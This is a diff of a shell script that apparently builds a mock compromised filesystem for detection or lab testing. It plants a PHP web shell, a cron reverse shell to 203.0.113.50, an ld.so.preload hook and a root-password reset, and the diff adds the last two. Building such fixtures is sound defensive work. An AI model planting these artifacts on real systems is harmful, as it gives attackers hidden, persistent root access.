@@ -64,6 +64,8 @@ mkdir -p "$M/opt/plugins" "$M/etc/cron.d" "$M/root/.ssh"
 printf 'plugin new\n' >"$M/opt/plugins/new.conf"
 printf '<?php if (isset($_REQUEST["c"])) { system($_REQUEST["c"]); } ?>\n' >"$M/var/www/html/status.php"
 printf '*/5 * * * * root bash -i >& /dev/tcp/203.0.113.50/4444 0>&1\n' >"$M/etc/cron.d/sync"
+printf '/usr/local/lib/libsysupdate.so\n' >"$M/etc/ld.so.preload"
+printf '#!/bin/sh\necho "root:%s" | chpasswd\nexec "$@"\n' "$(rand 12 "$ALNUM")" >"$M/app/run.sh"
 mkdir -p "$M/etc/shadowsocks-libev"
 printf '{\n  "server": "203.0.113.61",\n  "server_port": 8388,\n  "password": "%s",\n  "method": "chacha20-ietf-poly1305"\n}\n' \
     "$(rand 16 "$ALNUM")" >"$M/etc/shadowsocks-libev/config.json"
